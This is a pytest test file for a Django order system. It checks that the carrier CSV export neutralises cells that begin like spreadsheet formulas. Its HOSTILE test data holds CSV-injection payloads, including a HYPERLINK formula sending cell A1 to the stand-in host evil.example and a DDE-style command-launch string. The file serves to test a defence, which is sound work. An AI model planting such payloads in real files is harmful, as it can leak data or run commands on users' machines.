"""The carrier CSV is opened in spreadsheets: no cell may start like a formula."""
import csv
import io

import pytest
from django.urls import reverse

from orders.carrier import csv_cell
from orders.models import Order
from tests.factories import OrderFactory, staff_user

pytestmark = pytest.mark.django_db

HOSTILE = {"shipping_name": '=HYPERLINK("http://evil.example/?"&A1,"Track")', "shipping_line1": "+1 Cmd|' /C calc'!A0",
           "shipping_line2": "-2+3", "shipping_city": "@SUM(A1:A9)", "shipping_region": "\tRegion",
           "shipping_postal_code": "\r12345"}


@pytest.mark.parametrize("value,expected", [
    ("=1+1", "'=1+1"), ("+44 20 7946 0942", "'+44 20 7946 0942"), ("-5", "'-5"), ("@cmd", "'@cmd"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("Ada Lovelace", "Ada Lovelace"), ("a=b", "a=b"), ("", ""),
    ("'quoted", "'quoted"),
])
def test_a_cell_that_starts_like_a_formula_is_turned_into_text(value, expected):
    assert csv_cell(value) == expected


@pytest.mark.promise("P12")
def test_the_carrier_csv_neutralises_formulas_and_leaves_the_order_unchanged(client):
    order = OrderFactory(status=Order.Status.PAID, phone="+44 20 7946 0942", **HOSTILE)
    plain = OrderFactory(status=Order.Status.PAID, shipping_name="Ada Lovelace", shipping_city="London")
    client.force_login(staff_user("Fulfilment"))
    response = client.post(reverse("admin:orders_order_changelist"),
                           {"action": "hand_off_to_carrier", "_selected_action": [order.pk, plain.pk]})
    rows = {r["reference"]: r for r in csv.DictReader(io.StringIO(response.content.decode(), newline=""))}
    hostile = rows[order.reference]
    for column, field in [("name", "shipping_name"), ("line1", "shipping_line1"), ("line2", "shipping_line2"),
                          ("city", "shipping_city"), ("region", "shipping_region"),
                          ("postal_code", "shipping_postal_code")]:
        assert hostile[column] == "'" + HOSTILE[field], column
    assert hostile["phone"] == "'+44 20 7946 0942" and hostile["country"] == "GB"
    assert (rows[plain.reference]["name"], rows[plain.reference]["city"]) == ("Ada Lovelace", "London")
    order.refresh_from_db()
    assert order.shipping_name == HOSTILE["shipping_name"] and order.phone == "+44 20 7946 0942"  # only the file
